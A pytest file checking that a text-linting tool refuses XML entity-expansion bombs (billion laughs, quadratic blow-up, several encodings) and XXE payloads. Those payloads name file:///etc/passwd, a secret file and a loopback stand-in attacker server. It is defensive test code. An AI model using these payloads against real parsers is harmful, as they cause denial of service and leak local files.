"""XML and HTML attacks: entity expansion (billion laughs, quadratic blow-up) and external entities or
DTDs (XXE) are refused quickly, without memory blow-up and without a request to anywhere.

A local server on 127.0.0.1 stands for the attacker's host: every test that names it checks it was
never asked for anything. Feeds are refused when they declare an entity, whatever their encoding
(the check reads the text as feedparser decodes it); external DTDs and entities are never fetched
(expat with external entities off). Pages go through lint/markup.py (regular expressions, which
expand nothing) and trafilatura's lxml HTML parser, which reads no DTD and loads nothing.
"""

from __future__ import annotations

import http.server
import time
import tracemalloc
from pathlib import Path
from typing import ClassVar

import pytest
from loopback import serving, without_proxies

from lint import feeds
from lint.article import Article
from lint.config import Config
from lint.document import Document
from lint.engine import check_article
from lint.sources import InputError, read_inputs


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.requests.append(self.path)
        body = b'<!ENTITY leak "FROM-THE-NETWORK">'
        self.send_response(200)
        self.send_header("Content-Type", "application/xml-dtd")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def attacker():
    with serving(_Recorder) as url:
        yield url


@pytest.fixture(autouse=True)
def _no_proxy(monkeypatch):
    without_proxies(monkeypatch)
    _Recorder.requests.clear()


@pytest.fixture()
def secret(tmp_path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-CONTENT", encoding="utf-8")
    return path


def laughs(levels: int = 10) -> str:
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels)]
    return "\n".join(lines)


def rss(doctype: str, body: str, encoding: str = "utf-8") -> str:
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>\n{doctype}\n<rss version="2.0"><channel><title>x</title>'
        f"<item><guid>1</guid><description>{body}</description></item></channel></rss>\n"
    )


BILLION_LAUGHS = rss(f"<!DOCTYPE rss [\n{laughs()}\n]>", "&lol9;")
QUADRATIC = rss(f'<!DOCTYPE rss [<!ENTITY a "{"a" * 100_000}">]>', "&a;" * 20_000)


def read_feed_safely(data: bytes) -> list:
    """The feed's items, read under a time and memory bound."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        got = list(feeds.read_feed(data, "f.xml", "f.xml"))
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert time.perf_counter() - started < 5
    assert peak < 64_000_000  # the billion laughs expand to 3 GB
    return got


def refused(got: list) -> bool:
    return len(got) == 1 and isinstance(got[0], InputError) and got[0].fatal and "<!ENTITY" in got[0].message


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, QUADRATIC], ids=["billion-laughs", "quadratic-blowup"])
@pytest.mark.parametrize("codec", ["utf-8", "utf-16", "utf-16-be", "utf-32", "cp037"])
def test_entity_bombs_are_refused_in_any_encoding(doc, codec):
    """In UTF-16, UTF-32 or EBCDIC `<!ENTITY` is not those bytes; feedparser decodes them all, so the
    refusal must look at the decoded text (it looked at the bytes only, and let these through)."""
    declared = {"utf-16-be": "utf-16be", "cp037": "cp037"}.get(codec, codec)
    data = doc.replace('encoding="utf-8"', f'encoding="{declared}"').encode(codec)
    assert refused(read_feed_safely(data))


def test_an_ebcdic_bomb_named_on_the_command_line_is_refused(tmp_path):
    path = tmp_path / "feed.xml"
    path.write_bytes(BILLION_LAUGHS.replace('encoding="utf-8"', 'encoding="cp037"').encode("cp037"))
    (err,) = read_inputs([str(path)])
    assert isinstance(err, InputError) and "<!ENTITY" in err.message


def test_external_entities_are_refused_and_never_read(secret, attacker):
    for target in (secret.as_uri(), "file:///etc/passwd", f"{attacker}/entity"):
        doc = rss(f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{target}">]>', "Texte &x;")
        assert refused(read_feed_safely(doc.encode()))
    parameter = rss(f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{attacker}/param.dtd"> %p;]>', "Texte &leak;")
    assert refused(read_feed_safely(parameter.encode()))
    assert _Recorder.requests == []


@pytest.mark.parametrize("kind", ["SYSTEM", "PUBLIC"])
def test_external_dtds_are_never_fetched(secret, attacker, kind):
    """A DTD declares no entity in the document itself, so the feed is read, but without the DTD: the
    strict parser has external entities off, and the lenient one never resolves them."""
    ident = '"-//x//y" ' if kind == "PUBLIC" else ""
    for dtd in (f"{attacker}/feed.dtd", secret.as_uri()):
        doc = rss(f'<!DOCTYPE rss {kind} {ident}"{dtd}">', "Texte &leak; simple.")
        got = read_feed_safely(doc.encode())
        assert all("FROM-THE-NETWORK" not in getattr(a, "text", "") for a in got)
        assert all("TOP-SECRET" not in getattr(a, "text", "") for a in got)
    assert _Recorder.requests == []


def test_a_feed_fetched_over_http_is_refused_before_parsing(attacker, monkeypatch):
    # served by the attacker itself: only the feed is asked for, not the DTD it names
    monkeypatch.setattr(_Recorder, "do_GET", _serve(BILLION_LAUGHS.replace(
        "<!DOCTYPE rss [", f'<!DOCTYPE rss SYSTEM "{attacker}/feed.dtd" [').encode()))
    (err,) = read_inputs([f"{attacker}/feed.rss"])
    assert isinstance(err, InputError) and "<!ENTITY" in err.message
    assert _Recorder.requests == ["/feed.rss"]


def _serve(body: bytes):
    def do_GET(self) -> None:
        self.requests.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "application/rss+xml")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    return do_GET


def page(secret: Path, attacker: str) -> str:
    return (
        "<!DOCTYPE html [\n" + laughs() + "\n"
        f'<!ENTITY xxe SYSTEM "{secret.as_uri()}">\n<!ENTITY net SYSTEM "{attacker}/page-entity">\n'
        f'<!ENTITY % remote SYSTEM "{attacker}/page.dtd"> %remote;\n]>\n'
        '<html lang="fr"><head><title>Le Kremlin répond</title></head><body><article>\n'
        "<p>Le porte-parole du Kremlin a déclaré que Moscou prendrait le temps d’étudier le document. &lol9;</p>\n"
        "<p>La réponse a été remise à Moscou par l’ambassadeur américain, selon l’agence russe. &xxe; &net;</p>\n"
        "</article></body></html>\n"
    )


@pytest.mark.parametrize("extract", [True, False], ids=["main-text", "whole-page"])
def test_pages_expand_no_entity_and_fetch_nothing(tmp_path, secret, attacker, extract):
    path = tmp_path / "page.html"
    path.write_text(page(secret, attacker), encoding="utf-8")
    tracemalloc.start()
    started = time.perf_counter()
    (art,) = read_inputs([str(path)], extract=extract)
    result = check_article(art, Config(knowledge="off"))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert time.perf_counter() - started < 10 and peak < 200_000_000
    assert isinstance(art, Article) and art.text == path.read_text(encoding="utf-8")  # nothing substituted
    prose = Document(art.text, masks=art.masks).text
    assert "lollol" not in prose and "TOP-SECRET" not in prose and "FROM-THE-NETWORK" not in prose
    assert all("TOP-SECRET" not in f.text and "lollol" not in f.message for f in result.findings)
    assert _Recorder.requests == []


def test_trafilatura_extraction_itself_expands_nothing(secret, attacker):
    from lint.pages import _extract

    main = _extract(page(secret, attacker))
    assert main is not None
    text, _ = main
    assert "Kremlin" in text
    assert "lollol" not in text and "TOP-SECRET" not in text and "FROM-THE-NETWORK" not in text
    assert _Recorder.requests == []
